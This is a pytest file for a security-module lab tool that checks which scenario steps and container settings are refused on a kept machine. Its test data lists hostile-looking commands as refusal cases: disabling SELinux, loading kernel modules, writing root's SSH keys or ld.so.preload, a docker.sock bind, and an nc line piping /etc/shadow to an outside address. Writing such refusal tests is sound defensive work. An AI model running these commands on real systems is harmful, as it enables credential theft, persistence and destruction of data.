"""What may be done on a machine that is kept: what is known to be undone, and nothing else."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from lsmlab import admission, discovery
from lsmlab.errors import DefinitionError
from lsmlab.scenario import Scenario
from lsmlab.terms import Framework

FLAGSHIP = discovery.load_scenarios(["nginx-reads-shadow"])[0]


def changed(**changes: Any) -> Scenario:
    """The flagship with other keys."""
    document = FLAGSHIP.model_dump(by_alias=True, exclude_none=True, exclude_defaults=True)
    return Scenario.model_validate(document | changes, strict=False)


def changes(scenario: Scenario, framework: Framework = Framework.SELINUX) -> admission.Changes:
    steps = (*scenario.setup, *scenario.after_start)
    return admission.changes_of(scenario, framework, "nginx.service", "/usr/sbin/nginx", steps)


def refusal(scenario: Scenario, framework: Framework = Framework.SELINUX) -> str:
    with pytest.raises(DefinitionError, match="is not run on a machine that is kept") as caught:
        changes(scenario, framework)
    assert "lsmlab run nginx-reads-shadow" in caught.value.hint
    return caught.value.message


def test_the_flagship_is_admitted_and_what_it_changes_is_said() -> None:
    found = changes(FLAGSHIP)
    assert {"/etc", "/etc/shadow", "/srv/www", "/var/www/html", "/usr/sbin/nginx"} <= set(found.trees)
    assert (found.units, found.profiles, found.subjects) == (("nginx.service",), (), ("httpd_t",))
    assert "www-data is made a member of the group shadow" in found.words
    assert "/etc/nginx/sites-enabled/default is written" in found.words
    assert "a line is added to /etc/shadow" in found.words
    assert any("/usr/sbin/nginx is labelled bin_t" in word for word in found.words)
    found = changes(FLAGSHIP, Framework.APPARMOR)
    assert (found.profiles, found.subjects) == (("nginx",), ("nginx",))
    assert "/usr/sbin/nginx" not in found.trees
    assert any("/etc/apparmor.d/nginx.apparmor are loaded" in word for word in found.words)


STEPS = {
    ("sh", "-c", "true"): "step 1 is",
    ("rm", "-r", "/var/lib/mysql"): "it changes /var/lib/mysql",
    ("rm", "-r", "/etc/../usr"): "a plain path is needed",
    ("rm", "-r", "etc/x"): "by its whole path",
    ("rm", "-r", "/etc/x", "shadow"): "by its whole path",
    ("chmod", "-R", "0777", "etc", "/srv/x"): "by its whole path",
    ("chmod", "0777"): "by its whole path",
    ("chmod", "-r", "/etc/x", "/srv/y"): "not known to be covered",
    ("chmod", "/etc/x", "/srv/y"): "not known to be covered",
    ("chown", "-RL", "www-data", "/srv/x"): "not known to be covered",
    ("chown", "-R", "-H", "www-data", "/srv/x"): "not known to be covered",
    ("chgrp", "-L", "-R", "www-data", "/srv/x"): "not known to be covered",
    ("setfacl", "-L", "-R", "-m", "u:www-data:r", "/srv/x"): "not known to be covered",
    ("setfacl", "-m", "u:www-data:r", "x"): "by its whole path",
    ("chcon", "-t", "httpd_sys_content_t", "x"): "by its whole path",
    ("chcon", "-t", "etc_t", "etc", "/srv/x"): "by its whole path",
    ("restorecon", "-f", "/srv/list"): "not known to be covered",
    ("install", "-m", "0644", "x", "/srv/x"): "by its whole path",
    ("cp", "x", "/srv/x"): "by its whole path",
    ("cp", "-s", "/usr/bin/x", "/srv/x"): "not known to be covered",
    ("mv", "/srv/x"): "by its whole path",
    ("ln", "/srv/x"): "by its whole path",
    ("ln", "-s", "/usr/bin/x", "/srv/x"): "it changes /usr/bin/x",
    ("ln", "-s", "../../usr/bin/x", "/srv/x"): "by its whole path",
    ("ln", "/etc/systemd/system/x", "/srv/x"): "which the whole machine obeys",
    ("rmdir", "-p", "/srv/a/b"): "not known to be covered",
    ("touch", "/etc/NetworkManager/dispatcher.d/x"): "which the whole machine obeys",
    ("touch", "/etc/logrotate.d/x"): "which the whole machine obeys",
    ("touch", "/etc/anacrontab"): "which the whole machine obeys",
    ("touch", "/etc/update-motd.d/x"): "which the whole machine obeys",
    ("touch", "/etc/bash.bashrc"): "which the whole machine obeys",
    ("touch", "/root/.bashrc"): "which the whole machine obeys",
    ("touch", "/home/anna/.profile"): "which the whole machine obeys",
    ("touch", "/home/anna/.ssh/authorized_keys"): "which the whole machine obeys",
    ("mkdir", "/srv/git/.ssh"): "which the whole machine obeys",
    ("rm", "--target=/usr/x", "/etc/x"): "not known to be covered",
    ("cp", "-t", "/usr/bin", "/etc/x"): "not known to be covered",
    ("cp", "--backup", "/etc/x", "/srv/x"): "not known to be covered",
    ("cp", "/bin/true", "/usr/bin/x"): "it changes /usr/bin/x",
    ("cp", "/bin/true", "/etc/cron.d/x"): "which the whole machine obeys",
    ("ln", "-s", "/x", "/etc/systemd/system/x.service"): "which the whole machine obeys",
    ("touch", "/etc/ssh/sshd_config"): "which the whole machine obeys",
    ("touch", "/root/.ssh/authorized_keys"): "which the whole machine obeys",
    ("touch", "/etc"): "it changes /etc;",
    ("chmod", "0777", "/"): "it changes /;",
    ("usermod", "--move-home", "--home", "/x", "www-data"): "not known to be covered",
    ("usermod", "--append", "--groups", "x;y", "www-data"): "not known to be covered",
    ("systemctl", "start", "cron.service"): "not known to be covered",
    ("systemctl", "reload", "nginx.service"): "not known to be covered",
    ("systemctl", "--root=/x", "stop", "nginx.service"): "not known to be covered",
    ("setsebool", "-P", "x", "on"): "not known to be covered",
    ("setenforce", "0"): "not known to be covered",
    ("insmod", "/root/x.ko"): "not known to be covered",
    ("semodule", "-i", "/root/x.pp"): "not known to be covered",
}
GOOD = (
    ("usermod", "-aG", "shadow", "www-data"), ("groupadd", "readers"), ("setsebool", "httpd_can_network_connect", "on"),
    ("chmod", "0640", "/srv/www/a"), ("cp", "/bin/true", "/srv/x"), ("mv", "/home/anna/x", "/srv/x"),
    ("chown", "-R", "www-data:www-data", "/srv/www"), ("chgrp", "shadow", "/srv/www", "/srv/a"),
    ("ln", "-s", "/srv/a", "/srv/b"),
    ("setfacl", "-R", "-m", "u:www-data:r", "/srv/www"), ("chcon", "-R", "-t", "etc_t", "/srv/www"),
    ("chcon", "system_u:object_r:etc_t:s0", "/srv/www"), ("install", "-m", "0644", "-o", "root", "/bin/true", "/srv/x"),
    ("mkdir", "-p", "-m", "0755", "/srv/www/a"), ("chmod", "-R", "g=rX,o=", "/srv/www"),
    ("systemctl", "restart", "nginx"), ("rm", "-r", "/opt/shop/data"), ("restorecon", "-R", "/srv/www"),
)  # fmt: skip


@pytest.mark.parametrize("command", STEPS, ids=" ".join)
@pytest.mark.parametrize("when", ["setup", "after_start"])
def test_a_step_that_is_not_known_to_be_undone_is_refused(command: tuple[str, ...], when: str) -> None:
    scenario = changed(**{"setup": [], "after_start": [], when: [{"run": list(command)}]})
    assert STEPS[command] in refusal(scenario)


@pytest.mark.parametrize("command", GOOD, ids=" ".join)
def test_a_step_whose_files_are_kept_is_admitted(command: tuple[str, ...]) -> None:
    found = changes(changed(setup=[{"run": list(command)}]))
    paths = [word for word in command if word.startswith(("/srv", "/home", "/opt"))]
    assert set(paths) <= set(found.trees)


@pytest.mark.parametrize(
    "path",
    ["/usr/bin/x", "/var/log/auth.log", "/proc/sys/kernel/x", "/etc/sudoers.d/x", "/etc/ld.so.preload", "/boot/x"],
)
def test_a_file_elsewhere_is_not_written_and_gets_no_canary(path: str) -> None:
    assert path in refusal(changed(setup=[{"write": {"path": path, "content": "x"}}]))
    attack = FLAGSHIP.attacks[0].model_dump(by_alias=True, exclude_none=True)
    attack["canary"] = {"file": path, "line": "{canary}"}
    attack["allowed_if"] = {"output": "{canary}"}
    others = [a.model_dump(by_alias=True, exclude_none=True) for a in FLAGSHIP.benign]
    assert path in refusal(changed(attempts=[attack, *others], setup=[]))


def attempts(**change: Any) -> list[dict[str, Any]]:
    first = FLAGSHIP.attacks[0].model_dump(by_alias=True, exclude_none=True)
    return [{key: value for key, value in (first | change).items() if value is not None}]


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"http": {"path": "/", "method": "POST"}}, "sends a POST"),
        ({"http": {"path": "/", "method": "PUT"}}, "sends a PUT"),
        ({"http": {"path": "/", "body": "x"}}, "or a body"),
        ({"blocked_if": [{"output": "denied .* for"}]}, "could match what leaked"),
        ({"blocked_if": [{"output": "(?s)root"}]}, "could match what leaked"),
        ({"blocked_if": [{"output": "[a-z]"}]}, "could match what leaked"),
        (
            {"canary": None, "allowed_if": {"effect": {"run": ["cat", "/etc/shadow"], "output": "x"}}},
            "is proved by an effect",
        ),
        (
            {"http": None, "blocked_if": [], "run": ["perl", "-e", "1"], "allowed_if": {"output": "{canary}"}},
            "runs perl",
        ),
    ],
)
def test_an_attempt_that_may_change_or_show_more_is_refused(change: dict[str, Any], why: str) -> None:
    assert why in refusal(changed(attempts=attempts(**change)))


def test_plain_words_and_a_reader_are_admitted() -> None:
    changes(changed(attempts=attempts(blocked_if=[{"output": "refused|not allowed"}])))
    run = {"http": None, "blocked_if": [], "run": ["cat", "/etc/shadow"], "allowed_if": {"output": "{canary}"}}
    changes(changed(attempts=attempts(**run)))


def test_a_service_of_the_scenario_s_own_and_its_modules_are_refused() -> None:
    subject = {"unit": "shop.service", "selinux": "httpd_t", "apparmor": "nginx"}
    assert "not known" in refusal(changed(subject=subject))
    assert "SELinux modules" in refusal(changed(selinux={"modules": [__file__]}))
    changes(changed(selinux={"modules": [__file__]}), Framework.APPARMOR)


def test_every_scenario_of_the_library_is_admitted_or_refused_with_a_reason() -> None:
    admitted, reasons = [], {}
    for scenario in discovery.load_scenarios(discovery.scenarios().ids):
        for framework in scenario.expected:
            try:
                found = changes(scenario, framework)
            except DefinitionError as error:
                reasons[scenario.id] = error.message
            else:
                admitted.append((scenario.id, framework))
                assert all(tree.startswith("/") for tree in found.trees)
    assert all(f"scenario {name} is not run" in reason for name, reason in reasons.items())
    assert ("nginx-reads-shadow", Framework.SELINUX) in admitted
    assert not [name for name, _ in admitted if name.startswith(("shop-", "tcpdump-", "cron-"))]


@pytest.mark.parametrize(
    ("lab", "host"),
    [
        ("debian-13", None),
        ("ssh:web1", "web1"),
        ("ssh:root@web1:22", "root@web1:22"),
        ("ssh:vagrant:x", "vagrant:x"),
        ("vagrant:fedora", "vagrant:fedora"),
        ("sshd", None),
    ],
)
def test_a_machine_is_told_from_a_lab(lab: str, host: str | None) -> None:
    assert admission.host_of(lab) == host


# Containers


CONTAINED = discovery.load_scenarios(["container-reads-host-shadow"])[0]
SHOP = "/var/lib/docker/volumes/shop"


def container_changes(scenario: Scenario, framework: Framework = Framework.SELINUX) -> admission.Changes:
    steps = (*scenario.setup, *scenario.after_start)
    return admission.changes_of(scenario, framework, "system-lsmlab.slice", "", steps)


def with_container(**container: Any) -> Scenario:
    """container-reads-host-shadow with other keys of its container."""
    document = CONTAINED.model_dump(by_alias=True, exclude_none=True, exclude_defaults=True)
    document["subject"]["container"] = document["subject"]["container"] | container
    return Scenario.model_validate(document, strict=False)


def container_refusal(scenario: Scenario) -> str:
    with pytest.raises(DefinitionError, match="is not run on a machine that is kept") as caught:
        container_changes(scenario)
    return caught.value.message


def test_a_container_that_reads_is_admitted_and_what_it_changes_is_said() -> None:
    found = container_changes(CONTAINED)
    assert found.engine and found.units == ("system-lsmlab.slice",)
    assert found.new == (SHOP, "/usr/local/bin/lsmlab-runtime", "/etc/docker/lsmlab-auid")
    assert {"/etc", "/etc/shadow", SHOP, "/usr/local/bin/lsmlab-runtime"} <= set(found.trees)
    assert (found.profiles, found.subjects) == ((), ()), "the engine's own profile holds others' containers"
    words = "\n".join(found.words)
    for word in (
        "/etc/docker/daemon.json has one more runtime", "given the machine's /etc, to read", "label=disable",
        "boolean container_mounton_non_security is set, which holds for the whole engine", f"{SHOP}/_data/orders.txt",
    ):  # fmt: skip
        assert word in words
    found = container_changes(CONTAINED, Framework.APPARMOR)
    assert found.profiles == () and "/var/cache/apparmor" in found.trees
    assert "apparmor=unconfined" in "\n".join(found.words)


def test_a_profile_of_the_container_s_own_is_kept_as_a_service_s_is() -> None:
    (own,) = discovery.load_scenarios(["container-reads-host-shadow-own-profile"])
    found = container_changes(own, Framework.APPARMOR)
    assert found.profiles == ("shop-container",)
    assert any("/etc/apparmor.d/shop-container.apparmor" in word for word in found.words)


@pytest.mark.parametrize(
    ("container", "why"),
    [
        ({"privileged": True}, "is privileged"),
        ({"cap_add": ["SYS_ADMIN"]}, "has capabilities beyond the engine's own"),
        ({"pid": "host"}, "sees the processes of the whole machine"),
        ({"image": {"packages": ["nginx"]}}, "is made of an image, which the engine there would keep"),
        ({"security_opt": ["seccomp=unconfined"]}, "has seccomp=unconfined"),
        ({"security_opt": ["systempaths=unconfined"]}, "has systempaths=unconfined"),
        ({"network": "host"}, "attempt read-shadow runs a command in it"),
        ({"binds": ["/run/docker.sock:/run/docker.sock"]}, "may write to /run/docker.sock"),
        ({"binds": ["/run/docker.sock:/run/docker.sock:ro"]}, "the engine among them"),
        ({"binds": ["/var/run:/x:ro"]}, "the engine among them"),
        ({"binds": ["/:/host:ro"]}, "the engine among them"),
        ({"binds": ["/etc/../run:/x:ro"]}, "a plain path is needed"),
        ({"binds": ["/etcetera:/x:ro"]}, "the engine among them"),
        ({"binds": ["/etc:/x"]}, "may write to /etc"),
        ({"binds": ["/etc:/x:rw"]}, "may write to /etc"),
        ({"binds": ["/etc:/x:ro,z"]}, "label /etc anew"),
        ({"binds": ["/var/lib/docker/volumes:/x"]}, "may write to /var/lib/docker/volumes"),
        ({"binds": ["/var/lib/docker/volumes/shop/_dataset:/x"]}, "may write to"),
        ({"binds": ["/var/lib/docker/volumes/../overlay2/_data:/x"]}, "a plain path is needed"),
    ],
)
def test_a_container_that_could_change_more_is_refused(container: dict[str, Any], why: str) -> None:
    assert why in container_refusal(with_container(**container))


def test_a_container_beside_is_held_to_the_same() -> None:
    document = CONTAINED.model_dump(by_alias=True, exclude_none=True, exclude_defaults=True)
    document["subject"]["beside"] = [{"privileged": True}]
    assert "is privileged" in container_refusal(Scenario.model_validate(document, strict=False))


def test_a_key_of_containers_that_nobody_thought_of_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(admission, "COVERED", admission.COVERED - {"binds"})
    assert "asks for binds, and what that changes is not known to be covered" in container_refusal(CONTAINED)


def test_a_server_in_the_machine_s_network_serves_that_machine_alone() -> None:
    (serving,) = discovery.load_scenarios(["container-serves-host-shadow"])
    assert any("can ask the container's server" in word for word in container_changes(serving).words)
    document = serving.model_dump(by_alias=True, exclude_none=True, exclude_defaults=True)
    for run in (
        ["httpd", "-f", "-p", "8080"],
        ["httpd", "-f", "-p", "0.0.0.0:8080", "-h", "/"],
        ["httpd", "-f", "-p", "127.0.0.1:8080", "-h", "/", "-c", "/x"],
        ["sh", "-c", "nc 192.0.2.1 80 < /hostetc/shadow", "127.0.0.1:8080"],
    ):
        document["subject"]["container"]["run"] = run
        refused = container_refusal(Scenario.model_validate(document, strict=False))
        assert "is not [httpd, -f, -p, 127.0.0.1:PORT, -h, FOLDER]" in refused


def test_no_profile_but_the_subjects_own_is_taken_out_and_put_back(tmp_path: Path) -> None:
    (own,) = discovery.load_scenarios(["container-reads-host-shadow-own-profile"])
    shipped = own.model_copy(update={"apparmor": own.apparmor.model_copy(update={"shipped": ("/etc/apparmor.d/x",)})})
    with pytest.raises(DefinitionError, match=r"/etc/apparmor\.d/x confines others than its container"):
        container_changes(shipped, Framework.APPARMOR)
    file = tmp_path / "two.apparmor"
    for scenario, look in ((own, container_changes), (FLAGSHIP, changes)):
        (given,) = scenario.apparmor.profiles
        for more in (
            "\nprofile docker-default {\n}\n",
            "\n/usr/sbin/named {\n}\n",
            "\nprofile other flags=(x) { # y\n}\n",
        ):
            file.write_text(given.read_text("utf-8") + more, "utf-8")
            both = scenario.apparmor.model_copy(update={"profiles": (file,)})
            with pytest.raises(DefinitionError, match=r"two\.apparmor has to be one profile, .*; it seems to have 2"):
                look(scenario.model_copy(update={"apparmor": both}), Framework.APPARMOR)


def test_what_containers_are_given_to_read_is_known_beforehand() -> None:
    assert container_changes(CONTAINED).given == ("/etc",)
    assert admission.all_of([container_changes(CONTAINED), changes(FLAGSHIP)]).given == ("/etc",)


def test_a_volume_is_for_containers_alone() -> None:
    assert SHOP in refusal(changed(setup=[{"write": {"path": f"{SHOP}/_data/x", "content": "x"}}]))


def test_which_of_the_library_s_containers_are_admitted() -> None:
    admitted = set()
    for scenario in discovery.load_scenarios([n for n in discovery.scenarios().ids if n.startswith("container-")]):
        for framework in scenario.expected:
            try:
                container_changes(scenario, framework)
            except DefinitionError:
                continue
            admitted.add(scenario.id)
    assert admitted == {
        "container-reads-host-shadow", "container-reads-host-shadow-as-spc", "container-reads-host-shadow-own-profile",
        "container-reads-other-tenant", "container-reads-other-tenant-same-level", "container-serves-host-shadow",
        "container-makes-user-namespace",
    }  # fmt: skip


def test_what_several_change_is_put_together() -> None:
    both = admission.all_of([changes(FLAGSHIP), container_changes(CONTAINED)])
    assert both.engine and both.units == ("nginx.service", "system-lsmlab.slice") and SHOP in both.new
    assert not admission.all_of([changes(FLAGSHIP)]).engine
